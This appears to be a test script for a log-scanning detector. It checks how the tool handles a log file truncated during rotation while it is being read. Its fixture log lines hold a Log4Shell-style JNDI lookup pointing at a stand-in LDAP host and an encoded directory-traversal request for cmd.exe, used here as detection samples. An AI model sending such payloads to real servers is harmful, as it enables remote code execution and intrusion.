#!/usr/bin/env bash
# logs_truncated.sh -- a log truncated while defuse logs maps and reads it
# (copytruncate rotation): the file is reported once, "file shrank while
# being read", with exit status 2, the other files are still scanned, and
# the process is never killed by SIGBUS -- with one thread and with two,
# where the later chunks of the big file fault too (each chunk's worker
# must get SIGBUS again: the jump out of the handler restores the mask).
# Which chunk is being read when the truncation lands depends on timing; the
# checks hold whatever it is.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
printf '203.0.113.9 - - [10/Dec/2021:13:00:00 +0000] "GET /${jndi:ldap://other.example/a} HTTP/1.1" 404 0\n' > other.log
# ~96 MB: six 16 MiB chunks with --jobs 2.  Each line is a (harmless)
# candidate the detector must decode, so that the scan takes long enough
# (~100 ms and more) for the truncation to land in the middle of it.
yes '198.51.100.7 - - [10/Dec/2021:13:00:00 +0000] "GET /scripts/..%%35%63../winnt/system32/cmd.exe HTTP/1.0" 404 0' \
    | head -c 100000000 > big.log.src
for jobs in 1 2; do
    for delay in 0.01 0.05 0.2; do
        cp big.log.src big.log
        "$DEFUSE" logs --jobs "$jobs" big.log other.log > out.txt 2> err.txt &
        pid=$!
        sleep "$delay"
        truncate -s 5000000 big.log
        wait "$pid"; rc=$?
        what="--jobs $jobs, truncated after ${delay}s"
        if [ "$rc" -ge 128 ]; then
            fail "$what: killed by signal $((rc - 128))"
            continue
        fi
        expect_grep "other.log:1: jndi" out.txt "$what: the other file is still scanned"
        n=$(grep -c 'big.log: file shrank while being read' err.txt)
        if [ "$n" -eq 0 ]; then
            # the truncation came before the file was opened or after it was
            # read: a clean run with findings
            expect_rc 1 "$rc" "$what: no truncation seen during the read"
        elif [ "$n" -eq 1 ]; then
            expect_rc 2 "$rc" "$what: reported once"
        else
            fail "$what: reported $n times"
        fi
        expect_nogrep "Sanitizer" err.txt "$what: no sanitizer report"
    done
done
finish
